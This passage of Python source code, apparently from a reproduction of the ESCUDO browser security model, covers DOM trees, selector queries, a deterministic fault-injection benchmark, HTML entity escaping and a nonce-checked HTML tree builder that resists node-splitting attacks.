        self._note_tree_change()
        return new_child

    def remove_child(self, child: "Node") -> "Node":
        """Remove ``child`` and return it."""
        if child.parent is not self:
            raise ValueError("node to remove is not a child of this node")
        self._note_tree_change()
        self.children.remove(child)
        child.parent = None
        return child

    def detach(self) -> None:
        """Remove this node from its parent, if attached."""
        if self.parent is not None:
            self.parent.remove_child(self)

    def replace_children(self, new_children: list["Node"]) -> None:
        """Drop every existing child and adopt ``new_children`` in order."""
        for child in list(self.children):
            self.remove_child(child)
        for child in new_children:
            self.append_child(child)

    def _is_ancestor(self, candidate: "Node") -> bool:
        node = self.parent
        while node is not None:
            if node is candidate:
                return True
            node = node.parent
        return False

    # -- cloning ------------------------------------------------------------------

    def _clone_shallow(self) -> "Node":
        """A detached copy of this node without its children.

        Subclasses copy their own payload (text data, attributes).  The copy
        bypasses ``__init__``: cloning is the template cache's hot path, and
        the structural fields are re-established directly.
        """
        clone = type(self).__new__(type(self))
        clone.parent = None
        clone.children = []
        clone.owner_document = None
        return clone

    def clone(self, *, owner=None) -> "Node":
        """Deep structural copy of this subtree.

        The clone shares **no mutable state** with the original: child lists,
        attribute maps and text payloads are fresh objects, so mutating one
        tree can never leak into the other (the aliasing-free guarantee the
        HTML template cache relies on).  Immutable values -- strings and
        frozen :class:`~repro.core.context.SecurityContext` instances -- are
        shared by reference.  ``owner`` becomes the ``owner_document`` of
        every node in the copied subtree.

        Iterative (explicit work stack): cloning is the template cache's
        per-page-load hot path, and a recursive clone pays one Python frame
        per node per tree level.
        """
        copy = self._clone_shallow()
        copy.owner_document = owner
        stack = [(self, copy)]
        pop = stack.pop
        push = stack.append
        while stack:
            source, target = pop()
            target_children = target.children
            for child in source.children:
                child_copy = child._clone_shallow()
                child_copy.owner_document = owner
                child_copy.parent = target
                target_children.append(child_copy)
                if child.children:
                    push((child, child_copy))
        return copy

    # -- traversal -------------------------------------------------------------------

    def descendants(self) -> Iterator["Node"]:
        """Yield every descendant in document order (depth first).

        Iterative (explicit stack) rather than recursive: nested ``yield
        from`` chains cost one generator frame per tree level *per node*,
        which made traversal the hottest path of the whole-document sweeps
        (``elements()``, tag-name queries, serialisation).
        """
        stack = self.children[::-1]
        pop = stack.pop
        extend = stack.extend
        while stack:
            node = pop()
            yield node
            children = node.children
            if children:
                extend(children[::-1])

    def ancestors(self) -> Iterator["Node"]:
        """Yield ancestors from the parent up to the root."""
        node = self.parent
        while node is not None:
            yield node
            node = node.parent

    @property
    def first_child(self) -> Optional["Node"]:
        """First child or ``None``."""
        return self.children[0] if self.children else None

    @property
    def last_child(self) -> Optional["Node"]:
        """Last child or ``None``."""
        return self.children[-1] if self.children else None

    @property
    def next_sibling(self) -> Optional["Node"]:
        """The following sibling, if any."""
        if self.parent is None:
            return None
        siblings = self.parent.children
        index = siblings.index(self)
        return siblings[index + 1] if index + 1 < len(siblings) else None

    @property
    def previous_sibling(self) -> Optional["Node"]:
        """The preceding sibling, if any."""
        if self.parent is None:
            return None
        siblings = self.parent.children
        index = siblings.index(self)
        return siblings[index - 1] if index > 0 else None

    # -- content --------------------------------------------------------------------

    @property
    def text_content(self) -> str:
        """Concatenated text of every descendant text node."""
        parts: list[str] = []
        for node in self.descendants():
            if node.node_type is NodeType.TEXT:
                parts.append(node.data)  # type: ignore[attr-defined]
        return "".join(parts)

    def __repr__(self) -> str:  # pragma: no cover - debugging aid
        return f"<{type(self).__name__} children={len(self.children)}>"


class TextNode(Node):
    """A run of character data."""

    node_type = NodeType.TEXT

    def __init__(self, data: str = "") -> None:
        super().__init__()
        self.data = data

    def _clone_shallow(self) -> "TextNode":
        clone = super()._clone_shallow()
        clone.data = self.data
        return clone

    @property
    def text_content(self) -> str:
        return self.data

    def __repr__(self) -> str:  # pragma: no cover - debugging aid
        preview = self.data if len(self.data) <= 30 else self.data[:27] + "..."
        return f"<TextNode {preview!r}>"


class CommentNode(Node):
    """An HTML comment (``<!-- ... -->``)."""

    node_type = NodeType.COMMENT

    def __init__(self, data: str = "") -> None:
        super().__init__()
        self.data = data

    def _clone_shallow(self) -> "CommentNode":
        clone = super()._clone_shallow()
        clone.data = self.data
        return clone

    @property
    def text_content(self) -> str:
        return ""

    def __repr__(self) -> str:  # pragma: no cover - debugging aid
        return f"<CommentNode {self.data[:30]!r}>"
