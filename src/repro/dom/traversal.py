"""Tree traversal helpers and a small selector engine.

The selector syntax supports what the case-study applications and the attack
corpus need: tag names, ``#id``, ``.class``, attribute presence/equality
(``[name]``, ``[name=value]``), the universal selector ``*``, and descendant
combination with whitespace (``div.post span``).  It is intentionally a tiny
subset of CSS -- enough to write readable examples and tests, not a layout
engine.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Callable, Iterable, Iterator

from .element import Element
from .node import Node

Predicate = Callable[[Element], bool]


def walk_elements(root: Node) -> Iterator[Element]:
    """Yield every element under ``root`` (excluding ``root`` itself)."""
    for node in root.descendants():
        if isinstance(node, Element):
            yield node


def find_all(root: Node, predicate: Predicate) -> list[Element]:
    """Every element under ``root`` matching ``predicate``."""
    return [el for el in walk_elements(root) if predicate(el)]


def find_first(root: Node, predicate: Predicate) -> Element | None:
    """First element under ``root`` matching ``predicate``, or ``None``."""
    for el in walk_elements(root):
        if predicate(el):
            return el
    return None


@dataclass(frozen=True)
class SimpleSelector:
    """One compound selector step (``div.post[data-x=1]#main``)."""

    tag: str | None = None
    element_id: str | None = None
    classes: tuple[str, ...] = ()
    attributes: tuple[tuple[str, str | None], ...] = ()

    def matches(self, element: Element) -> bool:
        """Whether ``element`` satisfies every component of this step."""
        if self.tag is not None and self.tag != "*" and element.tag_name != self.tag:
            return False
        if self.element_id is not None and element.id != self.element_id:
            return False
        for cls in self.classes:
            if cls not in element.class_list:
                return False
        for name, value in self.attributes:
            if not element.has_attribute(name):
                return False
            if value is not None and element.get_attribute(name) != value:
                return False
        return True


@dataclass(frozen=True)
class Selector:
    """A descendant-combinator chain of :class:`SimpleSelector` steps."""

    steps: tuple[SimpleSelector, ...] = field(default_factory=tuple)

    def matches(self, element: Element) -> bool:
        """Whether ``element`` matches the full chain (rightmost step on it)."""
        if not self.steps:
            return False
        if not self.steps[-1].matches(element):
            return False
        remaining = list(self.steps[:-1])
        node = element.parent
        while remaining and node is not None:
            if isinstance(node, Element) and remaining[-1].matches(node):
                remaining.pop()
            node = node.parent
        return not remaining


def parse_selector(text: str) -> Selector:
    """Parse the supported selector subset into a :class:`Selector`."""
    steps = tuple(_parse_simple(part) for part in text.split() if part.strip())
    return Selector(steps=steps)


def _parse_simple(text: str) -> SimpleSelector:
    tag: str | None = None
    element_id: str | None = None
    classes: list[str] = []
    attributes: list[tuple[str, str | None]] = []

    remainder = text
    # Attribute blocks first ([name], [name=value]); they may contain '.' or '#'.
    while "[" in remainder:
        before, _, rest = remainder.partition("[")
        inside, _, after = rest.partition("]")
        name, eq, value = inside.partition("=")
        attributes.append((name.strip().lower(), value.strip().strip("'\"") if eq else None))
        remainder = before + after

    token = ""
    mode = "tag"
    for ch in remainder + "\0":
        if ch in ("#", ".", "\0"):
            if token:
                if mode == "tag":
                    tag = token.lower()
                elif mode == "id":
                    element_id = token
                else:
                    classes.append(token)
            token = ""
            mode = "id" if ch == "#" else "class" if ch == "." else mode
        else:
            token += ch
    return SimpleSelector(
        tag=tag,
        element_id=element_id,
        classes=tuple(classes),
        attributes=tuple(attributes),
    )


def query_selector_all(root: Node, selector_text: str) -> list[Element]:
    """Every element under ``root`` matching the selector."""
    selector = parse_selector(selector_text)
    return [el for el in walk_elements(root) if selector.matches(el)]


def query_selector(root: Node, selector_text: str) -> Element | None:
    """First element under ``root`` matching the selector, or ``None``."""
    selector = parse_selector(selector_text)
    for el in walk_elements(root):
        if selector.matches(el):
            return el
    return None


def elements_in_rings(root: Node, rings: Iterable[int]) -> list[Element]:
    """Elements whose assigned security context lies in one of ``rings``.

    Convenience used by tests and benchmark reporting to summarise how a
    labelled page is partitioned.
    """
    wanted = set(rings)
    matches = []
    for el in walk_elements(root):
        context = el.security_context
        if context is not None and context.ring.level in wanted:
            matches.append(el)
    return matches
