"""Seeded, deterministic fault-injection plane.

See :mod:`repro.faults.plan` for the schedule machinery and
:mod:`repro.scenarios.chaos` for the chaos differential oracle built on
top of it.  ``python -m repro.faults`` runs the chaos matrix, the
passivity check, and the disabled-plane overhead gate, and writes
``BENCH_faults.json``.
"""

from .plan import (
    DEFAULT_BURST_CAP,
    NETWORK_RETRY_ATTEMPTS,
    SITE_KINDS,
    SITE_NETWORK,
    SITE_STORAGE,
    SITE_WORKER,
    SITE_XHR,
    XHR_BACKOFF_BASE_MS,
    XHR_BACKOFF_CAP_MS,
    XHR_RETRY_ATTEMPTS,
    FaultConfig,
    FaultPlan,
    FaultStats,
    merge_fault_stats,
)

__all__ = [
    "DEFAULT_BURST_CAP",
    "NETWORK_RETRY_ATTEMPTS",
    "SITE_KINDS",
    "SITE_NETWORK",
    "SITE_STORAGE",
    "SITE_WORKER",
    "SITE_XHR",
    "XHR_BACKOFF_BASE_MS",
    "XHR_BACKOFF_CAP_MS",
    "XHR_RETRY_ATTEMPTS",
    "FaultConfig",
    "FaultPlan",
    "FaultStats",
    "merge_fault_stats",
]
