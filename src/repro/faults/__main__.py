"""CLI for the fault-injection plane's chaos oracle and resilience benchmark.

Examples::

    # the acceptance run: a 200-schedule chaos matrix, the passivity
    # property, the throughput-vs-rate sweep and the <5% overhead gate,
    # all written to benchmarks/results/BENCH_faults.json
    python -m repro.faults

    # a quick smoke matrix (still checks every property)
    python -m repro.faults --count 6 --schedules 2 --overhead-repeats 1

Exit status is non-zero when any property fails: an attack succeeding
under escudo with faults armed (fail-open), a benign scenario missing its
fault-free digest with retries on (divergence), a non-identical
armed-but-empty parity report (passivity), or the disabled-plane overhead
breaching its gate.
"""

from __future__ import annotations

import argparse
import json
import sys
from pathlib import Path

from repro.bench.faults_bench import (
    build_faults_report,
    measure_disabled_overhead,
    measure_throughput_vs_rate,
    write_faults_report,
)
from repro.scenarios.chaos import check_passivity, run_chaos_matrix

DEFAULT_BENCH_OUT = "benchmarks/results/BENCH_faults.json"


def _parse_args(argv) -> argparse.Namespace:
    parser = argparse.ArgumentParser(
        prog="python -m repro.faults",
        description="Run the chaos differential oracle (fail-closed, benign "
        "convergence, passivity) and the fault-plane benchmark.",
    )
    parser.add_argument("--seed", default="42", help="matrix seed (default: 42)")
    parser.add_argument(
        "--count", type=int, default=25, help="scenarios per schedule (default: 25)"
    )
    parser.add_argument(
        "--schedules",
        type=int,
        default=4,
        help="independent fault schedules; each runs with retries on and off, "
        "so the matrix covers count*schedules*2 fault runs (default: 4)",
    )
    parser.add_argument(
        "--rate",
        type=float,
        default=0.15,
        help="per-site injection rate of the chaos matrix (default: 0.15)",
    )
    parser.add_argument(
        "--storage",
        choices=("dict", "sqlite"),
        default="dict",
        help="storage backend of the chaos matrix (default: dict; the "
        "passivity check always covers both)",
    )
    parser.add_argument(
        "--attack-ratio",
        type=float,
        default=0.5,
        help="attack share of the chaos scenarios (default: 0.5 -- chaos "
        "wants attacks dense, not rare)",
    )
    parser.add_argument(
        "--overhead-repeats",
        type=int,
        default=9,
        help="best-of-N repeats of the disabled-plane overhead A/B (default: 9)",
    )
    parser.add_argument(
        "--bench-out",
        default=DEFAULT_BENCH_OUT,
        help=f"artifact path (default: {DEFAULT_BENCH_OUT}; '' disables)",
    )
    parser.add_argument("--json", action="store_true", help="print the report as JSON")
    return parser.parse_args(argv)


def main(argv=None) -> int:
    args = _parse_args(sys.argv[1:] if argv is None else argv)
    seed = int(args.seed) if args.seed.lstrip("-").isdigit() else args.seed

    chaos = run_chaos_matrix(
        seed=seed,
        count=args.count,
        schedules=args.schedules,
        rate=args.rate,
        storage=args.storage,
        attack_ratio=args.attack_ratio,
    )
    passivity = check_passivity()
    throughput = measure_throughput_vs_rate(seed=seed)
    overhead = measure_disabled_overhead(seed=seed, repeats=args.overhead_repeats)
    payload = build_faults_report(
        chaos=chaos.as_dict(),
        passivity=passivity,
        throughput=throughput,
        overhead=overhead,
    )

    if args.json:
        print(json.dumps(payload, indent=2, sort_keys=True))
    else:
        status = "ok" if payload["ok"] else "FAIL"
        print(
            f"chaos matrix [{status}]: {chaos.runs_faulted} fault runs "
            f"({args.schedules} schedule(s) x retries on/off x {args.count} scenarios)"
        )
        print(
            f"  fail-open: {len(chaos.fail_open)} | diverged: {len(chaos.diverged)} "
            f"| degraded w/o retries: {chaos.degraded} (+{chaos.crashes} hard)"
        )
        injected = sum(chaos.faults.get("injected", {}).values())
        retries = sum(chaos.faults.get("retries", {}).values())
        print(
            f"  injected: {injected} | retries: {retries} | "
            f"recoveries: {chaos.faults.get('recoveries', 0)} | "
            f"backoff latency: {chaos.faults.get('recovery_latency_ms', 0.0):.1f} virtual ms"
        )
        print(f"  passivity: {'ok' if passivity['ok'] else 'FAIL'} ({len(passivity['checks'])} comparisons)")
        print(
            f"  disabled-plane overhead: {overhead['overhead_percent']:+.2f}% "
            f"(gate < {overhead['gate_percent']:.0f}%)"
        )
        for point in throughput:
            print(
                f"  rate {point['rate']:.2f}: {point['scenarios_per_second']:,.1f} scenarios/s, "
                f"{point['injected']} injected, {point['retries']} retries"
            )
        for entry in chaos.fail_open:
            print(f"  FAIL-OPEN {entry}")
        for entry in chaos.diverged:
            print(f"  DIVERGED {entry}")

    if args.bench_out:
        path = write_faults_report(payload, Path(args.bench_out))
        print(f"[fault report written to {path}]", file=sys.stderr if args.json else sys.stdout)
    return 0 if payload["ok"] else 1


if __name__ == "__main__":
    sys.exit(main())
