"""Deterministic fault-injection plane.

The plane is a *schedule*, not a random process: every fault decision is a
pure function of ``(config seed, scenario, model, site, invocation index)``
derived through SHA-256, so a fault schedule replays bit-for-bit across
processes, platforms, and interpreter invocations (no ``random`` module, no
wall clock — the repolint determinism gate applies here too).

Vocabulary:

* A :class:`FaultConfig` is the frozen, picklable description of a schedule:
  the seed, one rate per fault *site*, the burst cap, and whether the
  resilience layer (retries) is armed.  It travels through worker configs
  and corpus pins as a plain dict (:meth:`FaultConfig.to_dict`).
* A :class:`FaultPlan` is the per-run instance derived via
  :meth:`FaultConfig.plan_for`.  Stack tiers call :meth:`FaultPlan.decide`
  at their fault site; a non-``None`` answer names the fault kind to inject.
  The plan also accumulates :class:`FaultStats` (injections, retries,
  suppressed duplicates, virtual-clock recovery latency).

Two structural guarantees keep the plane analysable:

* **Passivity** — with every rate at zero, :meth:`FaultPlan.decide` returns
  ``None`` before touching any counter or hash, so an armed-but-empty plan
  is byte-identical to no plan at all (property-tested in
  ``tests/scenarios/test_fault_passivity.py``).
* **Bounded bursts** — at most :attr:`FaultConfig.burst_cap` consecutive
  faults fire at one site; the draw after a full burst is forced clean.
  Any retry loop with more than ``burst_cap`` attempts therefore converges
  deterministically, which is what lets the chaos oracle demand exact
  digest convergence for benign scenarios with retries on.
"""

from __future__ import annotations

import hashlib
from dataclasses import dataclass, field

#: Named fault sites.  The string is the stable wire/artifact identifier.
SITE_NETWORK = "network.request"
SITE_STORAGE = "storage.write"
SITE_XHR = "xhr.completion"
SITE_WORKER = "executor.worker"

#: Fault kinds injectable at each site.
SITE_KINDS: dict[str, tuple[str, ...]] = {
    SITE_NETWORK: ("drop", "timeout", "http_500"),
    SITE_STORAGE: ("busy", "io"),
    SITE_XHR: ("lose", "duplicate"),
    SITE_WORKER: ("crash",),
}

#: Maximum consecutive faults at one site before a draw is forced clean.
DEFAULT_BURST_CAP = 2

#: Total dispatch attempts for a faulted network exchange (initial + retries).
#: Must exceed the burst cap so a retried request always lands.
NETWORK_RETRY_ATTEMPTS = 4

#: Total completion-post attempts for a lost XHR completion.
XHR_RETRY_ATTEMPTS = 4

#: Virtual-clock exponential backoff for async XHR completion retries.
XHR_BACKOFF_BASE_MS = 2.0
XHR_BACKOFF_CAP_MS = 16.0

_SITE_FIELDS = {
    SITE_NETWORK: "network",
    SITE_STORAGE: "storage",
    SITE_XHR: "xhr",
    SITE_WORKER: "worker",
}


def _draw(key: str, lane: str, index: int) -> int:
    """64-bit deterministic draw for ``(key, lane, index)``.

    SHA-256 rather than ``hash()`` (randomised per process) or ``random``
    (banned by the determinism lint): the schedule must be identical in
    every worker process that replays it.
    """
    digest = hashlib.sha256(f"{key}|{lane}|{index}".encode("utf-8")).digest()
    return int.from_bytes(digest[:8], "big")


_DRAW_SPACE = float(1 << 64)


@dataclass
class FaultStats:
    """Counters accumulated by a plan over one scenario run.

    Everything here is *reporting* data: it feeds ``BENCH_faults.json`` and
    suite ``as_dict`` output but is deliberately excluded from
    ``parity_dict`` so fault accounting can never perturb the serial/
    parallel or dict/sqlite parity oracles.
    """

    injected: dict[str, int] = field(default_factory=dict)
    retries: dict[str, int] = field(default_factory=dict)
    suppressed_duplicates: int = 0
    recoveries: int = 0
    recovery_latency_ms: float = 0.0

    def note_injected(self, site: str, kind: str) -> None:
        key = f"{site}:{kind}"
        self.injected[key] = self.injected.get(key, 0) + 1

    def note_retry(self, site: str, *, latency_ms: float = 0.0) -> None:
        self.retries[site] = self.retries.get(site, 0) + 1
        self.recovery_latency_ms += latency_ms

    def note_recovery(self) -> None:
        self.recoveries += 1

    def note_suppressed(self) -> None:
        self.suppressed_duplicates += 1

    @property
    def total_injected(self) -> int:
        return sum(self.injected.values())

    @property
    def total_retries(self) -> int:
        return sum(self.retries.values())

    def as_dict(self) -> dict:
        """Compact dict form; ``{}`` when the run saw no fault activity."""
        if not self.injected and not self.retries and not self.suppressed_duplicates:
            return {}
        return {
            "injected": dict(sorted(self.injected.items())),
            "retries": dict(sorted(self.retries.items())),
            "suppressed_duplicates": self.suppressed_duplicates,
            "recoveries": self.recoveries,
            "recovery_latency_ms": self.recovery_latency_ms,
        }


def merge_fault_stats(target: dict, extra: dict) -> dict:
    """Merge one ``FaultStats.as_dict`` payload into an aggregate, in place."""
    for key, value in extra.items():
        if isinstance(value, dict):
            bucket = target.setdefault(key, {})
            for sub, count in value.items():
                bucket[sub] = bucket.get(sub, 0) + count
        else:
            target[key] = target.get(key, 0) + value
    return target


@dataclass(frozen=True)
class FaultConfig:
    """Frozen, picklable description of a fault schedule.

    ``seed`` may be any int or string; distinct seeds give statistically
    independent schedules.  Rates are per-site fault probabilities in
    ``[0, 1]``.  ``retries`` arms the resilience layer (bounded retry /
    backoff / respawn); with it off, faults surface as degraded-but-
    deterministic outcomes so the fail-closed oracle can probe the worst
    case.
    """

    seed: int | str = 0
    network: float = 0.0
    storage: float = 0.0
    xhr: float = 0.0
    worker: float = 0.0
    burst_cap: int = DEFAULT_BURST_CAP
    retries: bool = True

    @classmethod
    def empty(cls, *, seed: int | str = 0, retries: bool = True) -> "FaultConfig":
        """An armed-but-empty plan: every decision is a pass (passivity)."""
        return cls(seed=seed, retries=retries)

    @classmethod
    def uniform(cls, *, seed: int | str, rate: float, retries: bool = True) -> "FaultConfig":
        """Same rate at every in-run site (worker crashes stay opt-in)."""
        return cls(seed=seed, network=rate, storage=rate, xhr=rate, retries=retries)

    @property
    def is_empty(self) -> bool:
        return self.network == 0.0 and self.storage == 0.0 and self.xhr == 0.0 and self.worker == 0.0

    def rate_for(self, site: str) -> float:
        return float(getattr(self, _SITE_FIELDS[site]))

    def to_dict(self) -> dict:
        return {
            "seed": self.seed,
            "network": self.network,
            "storage": self.storage,
            "xhr": self.xhr,
            "worker": self.worker,
            "burst_cap": self.burst_cap,
            "retries": self.retries,
        }

    @classmethod
    def from_dict(cls, payload: dict) -> "FaultConfig":
        return cls(
            seed=payload.get("seed", 0),
            network=float(payload.get("network", 0.0)),
            storage=float(payload.get("storage", 0.0)),
            xhr=float(payload.get("xhr", 0.0)),
            worker=float(payload.get("worker", 0.0)),
            burst_cap=int(payload.get("burst_cap", DEFAULT_BURST_CAP)),
            retries=bool(payload.get("retries", True)),
        )

    def plan_for(self, scenario_key: str, model: str) -> "FaultPlan":
        """Derive the per-(scenario, model) plan instance.

        The key mixes the config seed with both coordinates so every cell
        of a policy matrix sees its own independent — but replayable —
        schedule.
        """
        return FaultPlan(self, key=f"{self.seed}|{scenario_key}|{model}")

    def crash_schedule(self, workers: int) -> dict[int, int]:
        """Deterministic worker-crash schedule for an executor pool.

        Maps worker id → 1-based chunk ordinal at which that worker dies
        mid-chunk.  Empty when the ``worker`` rate is zero.  Respawned
        workers get fresh ids outside the schedule, which is what bounds
        the crash cascade.
        """
        if self.worker <= 0.0 or workers <= 1:
            return {}
        schedule: dict[int, int] = {}
        for worker_id in range(workers):
            roll = _draw(str(self.seed), f"{SITE_WORKER}:gate", worker_id)
            if roll / _DRAW_SPACE < self.worker:
                ordinal = _draw(str(self.seed), f"{SITE_WORKER}:chunk", worker_id) % 3 + 1
                schedule[worker_id] = ordinal
        # Never schedule every worker to die: recovery needs either a
        # respawn budget or at least one survivor, and killing the whole
        # pool models a cluster outage, not a worker fault.
        if len(schedule) >= workers:
            schedule.pop(max(schedule))
        return schedule


class FaultPlan:
    """Stateful per-run fault schedule with resilience accounting.

    Not thread/process safe and never shipped across processes: workers
    rebuild plans from the :class:`FaultConfig` dict in their config.
    """

    def __init__(self, config: FaultConfig, *, key: str) -> None:
        self.config = config
        self.key = key
        self.stats = FaultStats()
        self._counters: dict[str, int] = {}
        self._streaks: dict[str, int] = {}
        # Rates are frozen on the config, so snapshot them once: decide()
        # sits on the hot path of every network dispatch, storage write and
        # posted task, and the zero-rate (passivity) exit must stay a single
        # dict lookup.
        self._rates = {site: config.rate_for(site) for site in _SITE_FIELDS}

    @property
    def retries(self) -> bool:
        return self.config.retries

    @property
    def burst_cap(self) -> int:
        return self.config.burst_cap

    def wants(self, site: str) -> bool:
        """Whether ``site`` can ever fire under this plan.

        Lets hot paths skip installing per-event hooks (e.g. the event
        loop's task interceptor) for sites whose rate is zero -- the
        outcome is identical either way, a zero-rate :meth:`decide` always
        declines, so this is purely a cost gate.
        """
        return self._rates[site] > 0.0

    def decide(self, site: str) -> str | None:
        """Return the fault kind to inject at ``site`` now, or ``None``.

        Zero-rate sites short-circuit before touching any counter — that,
        plus callers gating on ``plan is None``, is the whole passivity
        story.
        """
        rate = self._rates[site]
        if rate <= 0.0:
            return None
        index = self._counters.get(site, 0)
        self._counters[site] = index + 1
        if self._streaks.get(site, 0) >= self.config.burst_cap:
            # Burst cap reached: force a clean slot so bounded retry loops
            # always converge.
            self._streaks[site] = 0
            return None
        roll = _draw(self.key, site, index)
        if roll / _DRAW_SPACE >= rate:
            self._streaks[site] = 0
            return None
        kinds = SITE_KINDS[site]
        kind = kinds[_draw(self.key, f"{site}:kind", index) % len(kinds)]
        self._streaks[site] = self._streaks.get(site, 0) + 1
        self.stats.note_injected(site, kind)
        return kind
