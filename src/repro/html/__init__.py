"""HTML substrate: tokenizer, tree builder, entities and serialisation."""

from .entities import decode_entities, escape_attribute, escape_text
from .parser import TreeBuilder, parse_document, parse_document_with_stats, parse_fragment
from .serializer import serialize, serialize_children
from .tokenizer import (
    CommentToken,
    DoctypeToken,
    EndTagToken,
    RawTextToken,
    StartTagToken,
    TextToken,
    Token,
    tokenize,
)

__all__ = [
    "CommentToken",
    "DoctypeToken",
    "EndTagToken",
    "RawTextToken",
    "StartTagToken",
    "TextToken",
    "Token",
    "TreeBuilder",
    "decode_entities",
    "escape_attribute",
    "escape_text",
    "parse_document",
    "parse_document_with_stats",
    "parse_fragment",
    "serialize",
    "serialize_children",
    "tokenize",
]
