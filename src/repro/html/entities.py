"""HTML character references (entities).

Only the entities that actually occur in the reproduction's pages and in the
attack corpus are included -- the goal is correct round-tripping of the
markup the case studies emit, not full spec coverage.  Numeric character
references (``&#65;`` and ``&#x41;``) are supported generically.
"""

from __future__ import annotations

#: Named entities the tokenizer decodes and the serializer encodes.
NAMED_ENTITIES = {
    "amp": "&",
    "lt": "<",
    "gt": ">",
    "quot": '"',
    "apos": "'",
    "nbsp": " ",
    "copy": "©",
    "hellip": "…",
    "mdash": "—",
    "ndash": "–",
    "lsquo": "‘",
    "rsquo": "’",
    "ldquo": "“",
    "rdquo": "”",
}

#: Characters that must be escaped in text content.
_TEXT_ESCAPES = {"&": "&amp;", "<": "&lt;", ">": "&gt;"}

#: Characters that must be escaped inside double-quoted attribute values.
_ATTR_ESCAPES = {"&": "&amp;", '"': "&quot;", "<": "&lt;", ">": "&gt;"}

#: ``str.translate`` tables for the escapes: escaping runs on every piece of
#: text a template renders and every text node a page serialises, and the
#: C-level translate beats a per-character generator join by an order of
#: magnitude on clean text.
_TEXT_ESCAPE_TABLE = str.maketrans(_TEXT_ESCAPES)
_ATTR_ESCAPE_TABLE = str.maketrans(_ATTR_ESCAPES)


def decode_entities(text: str) -> str:
    """Replace character references in ``text`` with the characters they name.

    Unknown or malformed references are left verbatim (lenient, like
    browsers).
    """
    if "&" not in text:
        return text
    out: list[str] = []
    i = 0
    length = len(text)
    while i < length:
        ch = text[i]
        if ch != "&":
            out.append(ch)
            i += 1
            continue
        semi = text.find(";", i + 1)
        if semi == -1 or semi - i > 32:
            out.append(ch)
            i += 1
            continue
        name = text[i + 1 : semi]
        decoded = _decode_one(name)
        if decoded is None:
            out.append(ch)
            i += 1
        else:
            out.append(decoded)
            i = semi + 1
    return "".join(out)


def _decode_one(name: str) -> str | None:
    if not name:
        return None
    if name.startswith("#"):
        body = name[1:]
        try:
            code = int(body[1:], 16) if body[:1] in ("x", "X") else int(body, 10)
        except ValueError:
            return None
        if 0 < code <= 0x10FFFF:
            try:
                return chr(code)
            except ValueError:
                return None
        return None
    return NAMED_ENTITIES.get(name)


def escape_text(text: str) -> str:
    """Escape text content for safe inclusion in HTML markup.

    This is also the server-side sanitisation primitive used by the webapp
    framework when it *does* apply input filtering (the paper's "first line
    of defense"); the defence-effectiveness experiments switch it off to
    demonstrate ESCUDO catching what filtering misses.
    """
    return text.translate(_TEXT_ESCAPE_TABLE)


def escape_attribute(value: str) -> str:
    """Escape an attribute value for inclusion in double quotes."""
    return value.translate(_ATTR_ESCAPE_TABLE)
