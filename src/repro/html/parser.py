"""HTML tree builder.

Turns the token stream from :mod:`repro.html.tokenizer` into a
:class:`~repro.dom.document.Document`.  Two pieces of ESCUDO-specific
behaviour live here because they *must* happen during tree construction:

* **Nonce-checked ``</div>`` handling** -- when the page uses markup
  randomisation, a closing ``div`` may only close an AC ``div`` whose nonce
  it repeats.  A mismatching terminator is ignored entirely, which is what
  defeats node-splitting attacks (Section 5 of the paper).  The caller
  passes a :class:`~repro.core.nonce.NonceValidator`; without one, nonces
  are still matched when present (the safe default) but mismatches are not
  recorded anywhere.

* **Implied end tags** -- a small amount of browser-style error recovery
  (``<p>``/``<li>`` auto-closing, stray end tags ignored) so that the
  synthetic applications' markup and the attack corpus parse predictably.

Security labelling is *not* done here: the tree builder produces an
unlabelled DOM, and :mod:`repro.browser.labeler` walks it afterwards to
assign security contexts.  Keeping the two phases separate mirrors the
paper's "extract, then track, then enforce" structure and lets the overhead
benchmark time them independently.
"""

from __future__ import annotations

from typing import Iterable

from repro.core.nonce import NONCE_ATTRIBUTE, NonceValidator
from repro.dom.document import Document
from repro.dom.element import Element, VOID_ELEMENTS
from repro.dom.node import CommentNode, Node, TextNode

from .tokenizer import (
    CommentToken,
    DoctypeToken,
    EndTagToken,
    RawTextToken,
    StartTagToken,
    TextToken,
    Token,
    tokenize,
)

#: Tags that implicitly close an open element with the same name.
_SELF_NESTING_CLOSERS = frozenset({"p", "li", "option", "tr", "td", "th"})


class TreeBuilder:
    """Stateful builder consuming tokens and growing a document tree."""

    def __init__(
        self,
        url: str = "about:blank",
        nonce_validator: NonceValidator | None = None,
    ) -> None:
        self.document = Document(url=url)
        self.nonce_validator = nonce_validator
        self._stack: list[Element] = []
        self._ignored_end_tags = 0

    # -- public API -----------------------------------------------------------------

    def build(self, tokens: Iterable[Token]) -> Document:
        """Consume every token and return the finished document."""
        for token in tokens:
            self._process(token)
        return self.document

    @property
    def ignored_end_tags(self) -> int:
        """Number of end tags dropped by nonce validation (attack attempts)."""
        return self._ignored_end_tags

    # -- token handling ----------------------------------------------------------------

    def _current(self) -> Node:
        return self._stack[-1] if self._stack else self.document

    def _process(self, token: Token) -> None:
        if isinstance(token, DoctypeToken):
            self.document.doctype = token.data
        elif isinstance(token, CommentToken):
            self._current().append_child(CommentNode(token.data))
        elif isinstance(token, (TextToken, RawTextToken)):
            if token.data:
                self._current().append_child(TextNode(token.data))
        elif isinstance(token, StartTagToken):
            self._handle_start_tag(token)
        elif isinstance(token, EndTagToken):
            self._handle_end_tag(token)

    def _handle_start_tag(self, token: StartTagToken) -> None:
        name = token.name
        if name in _SELF_NESTING_CLOSERS and self._stack and self._stack[-1].tag_name == name:
            self._stack.pop()
        element = Element(name, token.attributes)
        element.owner_document = self.document
        self._current().append_child(element)
        if token.self_closing or name in VOID_ELEMENTS:
            return
        self._stack.append(element)

    def _handle_end_tag(self, token: EndTagToken) -> None:
        name = token.name
        if not self._stack:
            return
        # Find the nearest open element with this tag name.
        index = None
        for i in range(len(self._stack) - 1, -1, -1):
            if self._stack[i].tag_name == name:
                index = i
                break
        if index is None:
            return  # Stray end tag: ignored.

        candidate = self._stack[index]
        if name == "div":
            opening_nonce = candidate.get_attribute(NONCE_ATTRIBUTE)
            closing_nonce = token.attributes.get(NONCE_ATTRIBUTE)
            if not self._nonce_ok(opening_nonce, closing_nonce, candidate):
                # The terminator does not legitimately close this AC tag.
                # Per the paper it is ignored outright, so injected content
                # stays confined inside the scope it was inserted into.
                self._ignored_end_tags += 1
                return
        # Close the candidate (and anything opened after it).
        del self._stack[index:]

    def _nonce_ok(self, opening: str | None, closing: str | None, element: Element) -> bool:
        if opening is None:
            return True
        if self.nonce_validator is not None:
            # The descriptive context (used in mismatch reports) is only built
            # when the nonces actually disagree; the common matching case must
